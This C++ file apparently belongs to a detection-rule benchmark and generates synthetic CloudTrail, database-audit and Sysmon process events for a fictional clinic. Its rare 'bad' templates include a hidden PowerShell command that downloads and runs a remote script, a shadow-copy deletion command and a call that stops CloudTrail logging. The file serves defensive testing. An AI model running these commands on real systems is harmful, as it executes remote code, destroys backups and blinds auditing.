// Templates, walked in a fixed order. Who acts and what is done vary as in real logs: roles act most, then services and
// users; a few programs start most processes, and some start shells and scripts that rules must look at twice.
#include "tests/bench/sigma_events.hpp"

#include <array>
#include <cstddef>
#include <string_view>

namespace tocsin::bench {
namespace {

struct Call {
  const char* service;
  const char* name;
  const char* parameters;
  bool reads;
};
constexpr std::array kCalls = {
    Call{"s3", "GetObject", R"({"bucketName":"clinic-scans","key":"2026/11/23/scan.dcm","Host":"clinic-scans.s3.eu-central-1.amazonaws.com"})", true},
    Call{"s3", "PutObject", R"({"bucketName":"clinic-scans","key":"2026/11/23/new.dcm","Host":"clinic-scans.s3.eu-central-1.amazonaws.com"})", false},
    Call{"s3", "ListObjects", R"({"list-type":"2","bucketName":"clinic-scans","prefix":"2026/11/","Host":"clinic-scans.s3.eu-central-1.amazonaws.com"})", true},
    Call{"sts", "AssumeRole", R"({"roleArn":"arn:aws:iam::111122223333:role/app","roleSessionName":"app-1","durationSeconds":3600})", true},
    Call{"kms", "Decrypt", R"({"encryptionContext":{"aws:s3:arn":"arn:aws:s3:::clinic-scans"},"encryptionAlgorithm":"SYMMETRIC_DEFAULT"})", true},
    Call{"kms", "GenerateDataKey", R"({"keySpec":"AES_256","keyId":"arn:aws:kms:eu-central-1:111122223333:key/0f4e2d1c-0000-4000-8000-000000000001"})", true},
    Call{"ec2", "DescribeInstances", R"({"maxResults":100,"instancesSet":{},"filterSet":{"items":[{"name":"tag:Name","valueSet":{"items":[{"value":"app"}]}}]}})", true},
    Call{"ec2", "DescribeSecurityGroups", R"({"securityGroupSet":{},"securityGroupIdSet":{"items":[{"groupId":"sg-0a1b2c3d"}]},"filterSet":{}})", true},
    Call{"rds", "DescribeDBInstances", R"({"dBInstanceIdentifier":"clinic"})", true},
    Call{"secretsmanager", "GetSecretValue", R"({"secretId":"clinic/app/database"})", true},
    Call{"iam", "GetUser", R"({"userName":"clerk"})", true},
    Call{"iam", "ListRoles", R"({"maxItems":100})", true},
    Call{"logs", "CreateLogStream", R"({"logGroupName":"/aws/lambda/app","logStreamName":"2026/11/23/[$LATEST]0f4e2d1c"})", false},
    Call{"lambda", "GetFunction20150331v2", R"({"functionName":"app"})", true},
    Call{"dynamodb", "DescribeTable", R"({"tableName":"appointments"})", true},
    Call{"sqs", "ReceiveMessage", R"({"queueUrl":"https://sqs.eu-central-1.amazonaws.com/111122223333/app","maxNumberOfMessages":10})", true},
};
constexpr std::array kBadCalls = {
    Call{"cloudtrail", "StopLogging", R"({"name":"arn:aws:cloudtrail:eu-central-1:111122223333:trail/main"})", false},
    Call{"s3", "PutBucketPolicy", R"({"bucketName":"clinic-scans","bucketPolicy":{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject"}]}})", false},
    Call{"iam", "CreateLoginProfile", R"({"userName":"clerk"})", false},
};
constexpr std::array kAgents = {"aws-sdk-java/2.20.162 Linux/5.10 OpenJDK_64-Bit_Server_VM/17.0.8", "Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux#5.10",
                                "aws-cli/2.15.0 Python/3.11.6 Linux/5.10.205 exe/x86_64.amzn.2", "console.amazonaws.com", "ecs.amazonaws.com"};

std::string identity(int i, const std::string& n) {
  switch (i % 10) {
    case 0:
    case 1:
      return R"({"type":"AWSService","invokedBy":"ecs-tasks.amazonaws.com"})";
    case 2:
    case 3:
    case 4:
      return R"({"type":"IAMUser","principalId":"AIDAEXAMPLE)" + n + R"(","arn":"arn:aws:iam::111122223333:user/clerk)" + n +
             R"(","accountId":"111122223333","accessKeyId":"AKIAEXAMPLE)" + n +
             R"(","userName":"clerk)" + n + R"(","sessionContext":{"attributes":{"creationDate":"2026-11-23T08:00:00Z","mfaAuthenticated":"true"}}})";
    default:
      return R"({"type":"AssumedRole","principalId":"AROAEXAMPLE:app-)" + n + R"(","arn":"arn:aws:sts::111122223333:assumed-role/app/app-)" + n +
             R"(","accountId":"111122223333","accessKeyId":"ASIAEXAMPLE)" + n +
             R"(","sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROAEXAMPLE","arn":"arn:aws:iam::111122223333:role/app","accountId":"111122223333","userName":"app"},"attributes":{"creationDate":"2026-11-23T08:00:00Z","mfaAuthenticated":"false"}}})";
  }
}

struct Start {
  const char* image;
  const char* description;
  const char* product;
  const char* original;
  const char* command;
  const char* parent;
  const char* parent_command;
};
constexpr const char* kWindows = "Microsoft\\u00ae Windows\\u00ae Operating System";
constexpr std::array kStarts = {
    Start{R"(C:\\Windows\\System32\\svchost.exe)", "Host Process for Windows Services", kWindows, "svchost.exe", R"(C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS)", R"(C:\\Windows\\System32\\services.exe)", R"(C:\\Windows\\system32\\services.exe)"},
    Start{R"(C:\\Windows\\System32\\conhost.exe)", "Console Window Host", kWindows, "CONHOST.EXE", R"(\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1)", R"(C:\\Windows\\System32\\cmd.exe)", R"(C:\\Windows\\system32\\cmd.exe /c dir)"},
    Start{R"(C:\\Program Files\\Clinic\\bin\\viewer.exe)", "Image viewer", "Clinic Suite", "viewer.exe", R"(\"C:\\Program Files\\Clinic\\bin\\viewer.exe\" /open D:\\scans\\2026\\scan.dcm)", R"(C:\\Windows\\explorer.exe)", R"(C:\\Windows\\Explorer.EXE)"},
    Start{R"(C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe)", "Google Chrome", "Google Chrome", "chrome.exe", R"(\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --device-scale-factor=1 --renderer-client-id=17)", R"(C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe)", R"(\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\")"},
    Start{R"(C:\\Windows\\System32\\backgroundTaskHost.exe)", "Background Task Host", kWindows, "backgroundTaskHost.exe", R"(\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca)", R"(C:\\Windows\\System32\\svchost.exe)", R"(C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p)"},
    Start{R"(C:\\Windows\\System32\\cmd.exe)", "Windows Command Processor", kWindows, "Cmd.Exe", R"(C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Program Files\\Clinic\\backup\\nightly.bat\" \")", R"(C:\\Windows\\System32\\svchost.exe)", R"(C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule)"},
    Start{R"(C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe)", "Windows PowerShell", kWindows, "PowerShell.EXE", R"(powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File C:\\Scripts\\inventory.ps1 -Site Zurich)", R"(C:\\Windows\\System32\\svchost.exe)", R"(C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule)"},
    Start{R"(C:\\Windows\\System32\\RuntimeBroker.exe)", "Runtime Broker", kWindows, "RuntimeBroker.exe", R"(C:\\Windows\\System32\\RuntimeBroker.exe -Embedding)", R"(C:\\Windows\\System32\\svchost.exe)", R"(C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p)"},
    Start{R"(C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE)", "Microsoft Outlook", "Microsoft Outlook", "Outlook.exe", R"(\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" )", R"(C:\\Windows\\explorer.exe)", R"(C:\\Windows\\Explorer.EXE)"},
    Start{R"(C:\\Windows\\System32\\taskhostw.exe)", "Host Process for Windows Tasks", kWindows, "taskhostw.exe", R"(taskhostw.exe KEYROAMING)", R"(C:\\Windows\\System32\\svchost.exe)", R"(C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule)"},
    Start{R"(C:\\Windows\\System32\\rundll32.exe)", "Windows host process (Rundll32)", kWindows, "RUNDLL32.EXE", R"(\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask)", R"(C:\\Windows\\System32\\svchost.exe)", R"(C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule)"},
    Start{R"(C:\\Program Files\\Git\\cmd\\git.exe)", "Git for Windows", "Git", "git.exe", R"(git.exe fetch --prune origin +refs/heads/*:refs/remotes/origin/*)", R"(C:\\Program Files\\Microsoft VS Code\\Code.exe)", R"(\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" --type=utility --utility-sub-type=node.mojom.NodeService)"},
    Start{R"(C:\\Windows\\System32\\msiexec.exe)", "Windows\\u00ae installer", "Windows Installer - Unicode", "msiexec.exe", R"(C:\\Windows\\system32\\msiexec.exe /V)", R"(C:\\Windows\\System32\\services.exe)", R"(C:\\Windows\\system32\\services.exe)"},
    Start{R"(C:\\Windows\\System32\\wbem\\WmiPrvSE.exe)", "WMI Provider Host", kWindows, "Wmiprvse.exe", R"(C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding)", R"(C:\\Windows\\System32\\svchost.exe)", R"(C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p)"},
    Start{R"(C:\\Windows\\System32\\net.exe)", "Net Command", kWindows, "net.exe", R"(net use S: \\\\files\\clinic /persistent:yes)", R"(C:\\Windows\\System32\\cmd.exe)", R"(C:\\Windows\\system32\\cmd.exe /c logon.cmd)"},
    Start{R"(C:\\Users\\clerk\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe)", "Microsoft Teams", "Microsoft Teams", "Teams.exe", R"(\"C:\\Users\\clerk\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=gpu-process --enable-features=WinUseBrowserSpellChecker)", R"(C:\\Users\\clerk\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe)", R"(\"C:\\Users\\clerk\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --system-initiated)"},
};
constexpr std::array kBadStarts = {
    Start{R"(C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe)", "Windows PowerShell", kWindows, "PowerShell.EXE", R"(powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\")", R"(C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE)", R"(\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n C:\\Users\\clerk\\Downloads\\invoice.docm)"},
    Start{R"(C:\\Windows\\System32\\vssadmin.exe)", "Command Line Interface for Microsoft\\u00ae Volume Shadow Copy Service", kWindows, "VSSADMIN.EXE", R"(vssadmin.exe delete shadows /all /quiet)", R"(C:\\Windows\\System32\\cmd.exe)", R"(C:\\Windows\\system32\\cmd.exe /c a.bat)"},
};

template <class T, std::size_t N, std::size_t M>
const T& pick(const std::array<T, N>& usual, const std::array<T, M>& bad, int i) {
  const auto at = static_cast<std::size_t>(i);
  return i % 100 == 50 ? bad[at / 100 % M] : usual[at * 7 % N];
}

}  // namespace

std::vector<std::string> cloudtrail_events(int count) {
  std::vector<std::string> events;
  for (int i = 0; i < count; ++i) {
    const Call& call = pick(kCalls, kBadCalls, i);
    const std::string n = std::to_string(100000 + i);
    events.push_back(
        R"({"eventVersion":"1.08","userIdentity":)" + identity(i / 3, n) + R"(,"eventTime":"2026-11-23T09:14:15Z","eventSource":")" + call.service +
        R"(.amazonaws.com","eventName":")" + call.name + R"(","awsRegion":"eu-central-1","sourceIPAddress":"10.0.)" + std::to_string(i % 250) +
        R"(.7","userAgent":")" + kAgents[static_cast<std::size_t>(i) % kAgents.size()] + R"(","requestParameters":)" + call.parameters +
        R"(,"responseElements":null,"additionalEventData":{"SignatureVersion":"SigV4","CipherSuite":"ECDHE-RSA-AES128-GCM-SHA256","bytesTransferredIn":0,"AuthenticationMethod":"AuthHeader","bytesTransferredOut":524288},"requestID":"REQ)" + n +
        R"(","eventID":"0f4e2d1c-0000-4000-8000-000000)" + n + R"(","readOnly":)" + (call.reads ? "true" : "false") +
        R"(,"resources":[{"type":"AWS::S3::Object","ARN":"arn:aws:s3:::clinic-scans/2026/11/23/scan.dcm"},{"accountId":"111122223333","type":"AWS::S3::Bucket","ARN":"arn:aws:s3:::clinic-scans"}],"eventType":"AwsApiCall","managementEvent":false,"recipientAccountId":"111122223333","eventCategory":"Data","tlsDetails":{"tlsVersion":"TLSv1.3","cipherSuite":"TLS_AES_128_GCM_SHA256","clientProvidedHostHeader":"clinic-scans.s3.eu-central-1.amazonaws.com"}})");
  }
  return events;
}

std::vector<std::string> access_events(int count) {
  std::vector<std::string> events;
  for (int i = 0; i < count; ++i) {
    const std::string n = std::to_string(i);
    events.push_back(R"({"actor":"clerk)" + n + R"(","account":"clerk)" + n + R"(","session":"6b0453f6.)" + n +
                     R"(","action":"read","operation":"SELECT","system":"postgresql","store":"clinic","dataset":"patient","columns":["id","name","birth_date"],"subjects":[")" + n +
                     R"("],"rows":1,"rows_certainty":"exact","client_ip":"10.0.3.17","application":"clinic-app","outcome":"success","format":"pgaudit-csv","statement":"SELECT id, name, birth_date FROM patient WHERE id = )" + n +
                     R"(","command":"SELECT","hour":14})");
  }
  return events;
}

std::vector<std::string> windows_events(int count) {
  std::vector<std::string> events;
  for (int i = 0; i < count; ++i) {
    const Start& start = pick(kStarts, kBadStarts, i);
    const std::string n = std::to_string(1000 + i);
    // Services start services; people start the rest.
    const bool by_system = std::string_view(start.parent).find("services.exe") != std::string_view::npos || std::string_view(start.parent).find("svchost.exe") != std::string_view::npos;
    const std::string account = by_system ? R"("User":"NT AUTHORITY\\SYSTEM","IntegrityLevel":"System")"
                                          : R"("User":"CLINIC\\clerk","IntegrityLevel":"Medium")";
    events.push_back(R"({"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"ws)" + n +
                     R"(.clinic.example","UtcTime":"2026-11-23 09:14:15.158","ProcessId":)" + n +
                     R"(,"Image":")" + start.image + R"(","Description":")" + start.description + R"(","Product":")" + start.product +
                     R"(","OriginalFileName":")" + start.original + R"(","CommandLine":")" + start.command +
                     R"(","CurrentDirectory":"C:\\Windows\\system32\\",)" + account +
                     R"(,"Hashes":"SHA256=0A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7)" + n +
                     R"(","ParentProcessId":772,"ParentImage":")" + start.parent + R"(","ParentCommandLine":")" + start.parent_command + R"(","ParentUser":"CLINIC\\clerk"})");
  }
  return events;
}

}  // namespace tocsin::bench
